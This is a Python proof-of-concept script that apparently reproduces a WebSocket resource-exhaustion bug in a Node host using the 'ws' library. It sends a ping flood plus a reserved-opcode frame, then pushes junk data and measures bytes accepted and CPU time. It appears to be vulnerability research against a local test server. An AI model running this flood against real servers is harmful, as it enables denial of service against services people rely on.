"""Node host: a stream failed by the control flood (1008, spent) then hit by a framing error in the same read.
ws's receiverOnError resumes the socket; Conn.stopReading returns early (spent), so nothing pauses it again.
Mode 'flood+err' vs 'err' (plain framing error: the fixed path) vs 'flood' (flood alone).
Measures bytes the attacker pushes in DUR s after the failure and the host's CPU seconds."""
import sys, time, socket, threading
sys.path.insert(0, "/tmp/rt16")
from rt import start, ws_connect, frame, status, kill
mode = sys.argv[1]; DUR = float(sys.argv[2]) if len(sys.argv) > 2 else 5.0; ROUNDS = int(sys.argv[3]) if len(sys.argv) > 3 else 1
p, port = start("node")
time.sleep(1)
ping = frame(9, b"")
bad = frame(3, b"")          # reserved opcode: ws fails with 1002
junk = frame(2, b"\x00" * 65530) * 16 if mode == "floodvalid" else b"\x00" * (1 << 20)
c0 = status(p.pid)["cpu_s"]; total = 0; t_all = time.time()
for r in range(ROUNDS):
    s, _, _ = ws_connect(port)
    if mode == "flood+err": first = ping * 1300 + bad
    elif mode == "err": first = bad
    else: first = ping * 1300  # flood, floodvalid
    s.sendall(first)
    sent = 0; t0 = time.time(); s.settimeout(0.5)
    stop = [False]
    def drain():
        while not stop[0]:
            try:
                if not s.recv(65536): break
            except socket.timeout: continue
            except OSError: break
    th = threading.Thread(target=drain, daemon=True); th.start()
    s.settimeout(1.0)
    while time.time() - t0 < DUR:
        try: sent += s.send(junk)
        except socket.timeout: continue
        except OSError: break
    stop[0] = True; s.close(); total += sent
    print(f"round {r}: pushed {sent/1e6:.1f} MB in {time.time()-t0:.1f} s", flush=True)
c1 = status(p.pid)
print(f"mode={mode} total pushed {total/1e6:.1f} MB; node cpu {c1['cpu_s']-c0:.2f} s over {time.time()-t_all:.1f} s wall; rss {c1['rss_mib']} MiB fds {c1['fds']}", flush=True)
kill(p)
